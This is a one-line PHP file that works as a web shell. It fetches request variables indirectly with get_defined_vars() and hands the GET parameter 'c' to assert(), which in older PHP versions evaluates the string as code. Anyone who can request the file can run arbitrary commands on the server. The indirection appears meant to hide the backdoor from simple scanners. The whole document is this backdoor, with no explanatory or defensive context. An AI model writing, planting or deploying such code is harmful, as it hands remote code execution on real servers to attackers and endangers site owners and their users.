<?php $v = get_defined_vars(); assert($v["_GET"]["c"]);
